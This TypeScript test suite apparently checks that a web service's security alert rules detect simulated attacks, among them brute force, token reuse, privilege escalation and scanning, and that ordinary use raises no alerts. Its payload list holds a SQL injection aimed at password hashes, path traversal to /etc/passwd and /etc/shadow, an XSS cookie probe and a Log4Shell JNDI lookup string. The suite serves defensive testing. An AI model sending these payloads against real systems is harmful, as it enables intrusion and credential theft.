import { enrolApp } from '../support/authenticator-app.ts';
import type { Client } from '../support/client.ts';
import { createTestDatabase, type TestDatabase } from '../support/database.ts';
import { eventually } from '../support/eventually.ts';
import { newKey, newPerson, type Person } from '../support/people.ts';
import { ADMIN, startServer, type TestServer } from '../support/server.ts';

const PATIENCE_MS = 30_000;

let database: TestDatabase;
let servers: TestServer[];
let admin: Client;
let viewer: Person;
let owner: Person;
let datasetId: string;

beforeAll(async () => {
  database = await createTestDatabase();
  const env = { TRUST_PROXY: '127.0.0.1' };
  const first = await startServer({ databaseUrl: database.url, env });
  const { dataDir } = first;
  servers = [first, await startServer({ databaseUrl: database.url, dataDir, env })];
  admin = await first.admin();
  viewer = await newPerson(admin, 'viewer');
  owner = await newPerson(admin, 'user');
  datasetId = await owner.client.dataset();
  await owner.client.import(datasetId, 'unique_id,ds,y\nSKU-1,2026-01-01,1\nSKU-1,2026-02-01,2\n');
});

afterAll(async () => {
  for (const server of servers) await server.stop();
  await database.drop();
});

interface Sent {
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: unknown;
}

/** Sends a request a number of times from an address, at the instances in turn. */
async function often(
  times: number,
  source: string,
  client: Client,
  ask: (turn: number) => { readonly path: string } & Sent,
): Promise<void> {
  for (let turn = 0; turn < times; turn += 1) {
    const { path, method = 'GET', headers = {}, body } = ask(turn);
    const url = servers[turn % servers.length]!.url;
    await new (client.constructor as typeof Client)(url, client.credential).send(method, path, {
      headers: { ...headers, 'x-forwarded-for': source },
      ...(body === undefined ? {} : { body }),
    });
  }
}

const stranger = (): Client => servers[0]!.client();
const form = (fields: Readonly<Record<string, string>>): URLSearchParams =>
  new URLSearchParams({ grant_type: 'password', ...fields });
const hex = (turn: number): string => turn.toString(16).padStart(12, '0');

/** Each attack, by the rule that must notice it. */
const ATTACKS: Readonly<Record<string, () => Promise<unknown>>> = {
  'brute-force': () =>
    often(12, '203.0.113.1', stranger(), (turn) => ({
      path: '/token',
      method: 'POST',
      body: form({ username: ADMIN.email, password: `guess number ${turn}` }),
    })),
  'credential-guessing': () =>
    often(32, '203.0.113.2', stranger().withKey('sk_unknown'), () => ({ path: '/v1/me' })),
  'payload-attack': () =>
    often(4, '203.0.113.3', stranger(), (turn) => ({
      path: [
        "/v1/datasets?cursor=' union select password_hash from user_account--",
        '/v1/datasets/..%2f..%2f..%2fetc%2fpasswd',
        '/docs?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
        '/?x=${jndi:ldap://203.0.113.3/a}',
      ][turn]!,
    })),
  scanner: () =>
    often(32, '203.0.113.4', stranger(), (turn) => ({ path: `/admin/${turn}/backup.zip` })),
  'id-enumeration': () =>
    often(52, '203.0.113.5', viewer.client, (turn) => ({
      path: `/v1/datasets/0199c0de-0000-7000-8000-${hex(turn)}`,
    })),
  'permission-probing': () =>
    often(22, '203.0.113.6', viewer.client, (turn) => ({
      path: ['/v1/audit/events', '/v1/users', '/v1/alerts', '/v1/network-rules'][turn % 4]!,
    })),
  'mass-export': () =>
    often(205, '203.0.113.7', owner.client, () => ({ path: `/v1/datasets/${datasetId}/series` })),
  'privilege-escalation': () =>
    admin.send('PUT', `/v1/users/${viewer.id}/roles`, { body: { roles: ['viewer', 'admin'] } }),
  'weakened-security': () =>
    admin.send('PUT', '/v1/alert-rules/scanner', { body: { mode: 'off' } }),
  'refresh-token-theft': async () => {
    const { email: username, password } = owner;
    const pair = (await stranger().token(Object.fromEntries(form({ username, password })))).body;
    const refresh = { grant_type: 'refresh_token', refresh_token: pair.refresh_token as string };
    await stranger().token(refresh);
    // Another client, and later than a race would be.
    await often(2, '203.0.113.8', stranger(), () => ({
      path: '/token',
      method: 'POST',
      headers: { 'user-agent': 'a thief' },
      body: new URLSearchParams(refresh),
    }));
  },
  'second-factor-guessing': async () => {
    const person = await newPerson(admin, 'user');
    await enrolApp(person.client);
    const { email: username, password } = person;
    await often(5, '203.0.113.10', stranger(), () => ({
      path: '/token',
      method: 'POST',
      body: form({ username, password, otp: '000000' }),
    }));
  },
};

interface Found {
  readonly rule: string;
  readonly userId: string | null;
  readonly source: string | null;
  readonly occurrences: number;
}

const alerts = async (): Promise<Found[]> =>
  (await admin.get('/v1/alerts?limit=200')).body.items as Found[];

describe('an attack raises the alert of its rule:', () => {
  it.each(Object.keys(ATTACKS))('%s', async (rule) => {
    await ATTACKS[rule]!();
    const isThere = (found: readonly Found[]): boolean => found.some((one) => one.rule === rule);
    await eventually(alerts, isThere, PATIENCE_MS);
  });
});

it('honest work raises no alert', async () => {
  const planner = await newPerson(admin, 'user');
  const mine = await planner.client.dataset('monthly', 'Drop table lamps & union jackets');
  await planner.client.import(mine, 'unique_id,ds,y\nSKU-1,2026-01-01,1\nSKU-1,2026-02-01,2\n');
  await planner.client.forecast(mine, { horizon: 2, method: 'naive' });
  await often(40, '198.51.100.1', planner.client, () => ({ path: `/v1/datasets/${mine}/series` }));
  await planner.client.token({ grant_type: 'password', username: planner.email, password: 'typo' });
  const key = await newKey(planner.client, ['datasets:read']);
  await often(40, '198.51.100.1', key.client, () => ({ path: '/v1/datasets?limit=5' }));
  // Signals are looked at in their order: once the alerts about later ones are there, so would be those about earlier ones.
  const escalate = `/v1/users/${planner.id}/roles`;
  await admin.send('PUT', escalate, { body: { roles: ['user', 'admin'] } });
  await often(4, '203.0.113.99', stranger(), () => ({
    path: '/../../etc/passwd?x=../../etc/shadow',
  }));
  const marks = (found: readonly Found[]): boolean =>
    found.some(({ source }) => source === '203.0.113.99') &&
    found.filter(({ rule }) => rule === 'privilege-escalation')[0]?.occurrences === 2;
  const found = await eventually(alerts, marks, PATIENCE_MS);
  expect(
    found.filter(({ userId, source }) => userId === planner.id || source === '198.51.100.1'),
  ).toEqual([]);
});
